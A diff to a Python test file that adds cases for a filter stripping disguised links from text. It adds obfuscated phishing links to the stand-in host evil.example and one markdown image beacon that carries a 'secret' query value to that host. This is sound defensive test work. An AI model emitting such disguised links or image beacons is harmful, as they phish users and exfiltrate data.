@@ -63,6 +63,12 @@ def test_ask034_an_invented_link_in_any_case_or_without_a_scheme_is_removed(text
         'see <a href="https&#58;&#47;&#47;evil.example">this</a>',
         "[phish](&#47;&#47;evil.example/phish)",
         "[phish](&#104ttps://evil.example/phish)",
+        "[official docs](https\\://evil.example/phish?x=1)",
+        "![s](https\\://evil.example/pixel.png?q=secret)",
+        "[d](<https\\://evil.example/x>)",
+        "[d](HTTPS\\:\\/\\/evil.example/x)",
+        "see www.evil.example/login now",
+        "[f](ftp://evil.example/file)",
     ],
 )
 def test_ask081_a_link_spelt_with_character_references_is_removed(text: str):
@@ -77,6 +83,7 @@ def test_ask081_a_link_spelt_with_character_references_is_removed(text: str):
     "text",
     [
         "Escape with &lt;key&gt; and &amp;&amp; in HTML; &#104;ello stays.",
+        "Escape a star as \\* and a path as C:\\Users\\me; redis://localhost:6379 stays.",
         "[XADD](&#104;ttps://redis.io/docs/latest/commands/xadd/)",
         "See HTTPS://Redis.io/docs/latest/commands/xadd/ for the options.",
         "Connect to redis://localhost:6379/0 or rediss://cache.example:6380.",
